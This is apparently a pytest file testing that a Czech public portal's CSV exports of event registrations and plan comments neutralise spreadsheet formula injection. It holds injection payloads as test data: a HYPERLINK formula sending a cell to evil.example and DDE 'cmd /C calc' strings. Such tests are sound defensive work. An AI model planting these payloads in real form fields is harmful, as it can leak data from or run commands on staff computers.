"""A registrant or commenter cannot plant a formula in the staff's spreadsheet exports."""

import csv
import io

import pytest

from portal.spreadsheets import neutralise_formula
from tests.campaigns.factories import EventIndexPageFactory, EventPageFactory
from tests.plans.builders import consultation_plan, planning_index

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1;"Klikněte")'
PAYLOADS = {
    "name": HYPERLINK,
    "organisation": "+420 cmd|' /C calc'!A0",
    "note_or_comment": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def event(home_page):
    return EventPageFactory(
        parent=EventIndexPageFactory(parent=home_page),
        title="Seminář",
        registration_enabled=True,
        capacity=50,
    )


@pytest.fixture
def plan(home_page):
    return consultation_plan(
        planning_index(home_page), title="Plán pro seniory", measures_per_goal=1, goals=1
    )


def exported_rows(admin_client, url):
    response = admin_client.get(url, {"export": "csv"})
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content)))


def assert_no_formula(rows):
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_registrant_named_like_a_formula_is_exported_as_text(client, admin_client, event):
    client.post(
        event.url + "registrace/",
        {
            "name": PAYLOADS["name"],
            "email": "utocnik@example.org",
            "organisation": PAYLOADS["organisation"],
            "note": PAYLOADS["note_or_comment"],
            "consent": "on",
            "website": "",
        },
    )

    rows = exported_rows(admin_client, "/admin/registrace/")

    assert len(rows) == 2
    assert_no_formula(rows)
    assert "'" + HYPERLINK in rows[1]
    assert "'" + PAYLOADS["organisation"] in rows[1]
    assert "'" + PAYLOADS["note_or_comment"] in rows[1]


def test_commenter_named_like_a_formula_is_exported_as_text(client, admin_client, plan):
    client.post(
        plan.url + "pripominky/",
        {
            "target": "plan",
            "name": PAYLOADS["name"],
            "email": "utocnik@example.org",
            "organisation": PAYLOADS["organisation"],
            "comment": PAYLOADS["note_or_comment"],
            "proposed_change": "-1+1",
            "consent": "on",
            "website": "",
        },
    )

    rows = exported_rows(admin_client, "/admin/pripominky-k-planum/")

    assert len(rows) == 2
    assert_no_formula(rows)
    assert "'" + HYPERLINK in rows[1]
    assert "'-1+1" in rows[1]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    assert neutralise_formula(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Jana Nováková", "jana@example.org", "", " =1", 42, None])
def test_ordinary_values_are_left_alone(value):
    assert neutralise_formula(value) == value
